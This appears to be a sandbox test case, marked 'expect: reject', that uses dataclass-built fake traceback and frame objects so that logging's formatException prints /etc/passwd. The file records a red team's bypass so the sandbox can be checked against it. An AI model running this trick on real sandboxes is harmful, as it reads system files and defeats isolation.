# expect: reject attribute
# line: 21
# verified: reaches its goal under plain python3 (3.11) in a temp dir (a member of the fifth red team's family F8, written for its fix)
# Mechanism: @dataclass fields tb_frame, f_code (class-body annotations) make the fake
#   traceback and frame for formatException
# Goal reached: /etc/passwd read
# Output under python3 (the line with the goal):
#   root:x:0:0:root:/root:/bin/bash
import dataclasses
import logging


@dataclasses.dataclass
class Code:
    co_filename: str
    co_name: str


@dataclasses.dataclass
class Frame:
    f_code: object
    f_globals: dict
    f_locals: dict


@dataclasses.dataclass
class Tb:
    tb_frame: object
    tb_lineno: int
    tb_next: object
    tb_lasti: int


frame = Frame(Code("/etc/passwd", "passwd"), {}, {})
tb = None
for lineno in range(3, 0, -1):
    tb = Tb(frame, lineno, tb, -1)
print(logging.Formatter().formatException((ValueError, ValueError("x"), tb)))
